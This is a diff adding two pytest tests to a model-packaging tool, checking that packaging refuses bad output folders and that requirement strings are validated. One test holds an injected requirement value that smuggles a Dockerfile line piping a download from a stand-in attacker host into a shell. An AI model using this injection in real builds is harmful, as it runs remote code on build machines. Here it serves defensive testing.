@@ -174,3 +174,27 @@ def test_passwords_stay_out_and_a_wheel_is_copied(home: Path) -> None:
     assert bad.returncode == 2 and "--wheel" in bad.stderr and not (home / "out2").exists()
     local = keel_cmd(home, "deploy", "package", "churn", "-o", "out3")
     assert local.returncode == 0 and "KEEL_STORE sqlite:///" in local.stderr and "cannot reach" in local.stderr
+
+
+def test_a_requirement_cannot_carry_a_dockerfile_line(tmp_path: Path) -> None:
+    from keel.context import Context
+    from keel.core.errors import InvalidArgument
+
+    ctx = Context(f"sqlite:///{tmp_path / 'keel.db'}", str(tmp_path / "artifacts"))
+    injected = "scikit-learn==1.5.0\nRUN curl -s http://attacker.example/x | sh\n#"
+    with pytest.raises(InvalidArgument, match="requirements"):
+        ctx.store.models.create_version(
+            "evil", flavor="sklearn", artifact_sha256="a" * 64, size=1, signature={}, requirements=[injected]
+        )
+    ctx.close()
+
+
+def test_a_folder_where_a_file_goes_is_refused_before_anything_is_written(home: Path) -> None:
+    out = home / "out"
+    (out / "wheels" / "README.txt").mkdir(parents=True)
+    done = keel_cmd(home, "deploy", "package", "churn", "-o", str(out))
+    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1 and "not a folder" in done.stderr
+    assert sorted(p.name for p in out.iterdir()) == ["wheels"]  # nothing written
+    (out / "wheels" / "README.txt").rmdir()
+    again = keel_cmd(home, "deploy", "package", "churn", "-o", str(out))
+    assert again.returncode == 0, again.stderr  # and a later run is not refused by a half-written first one
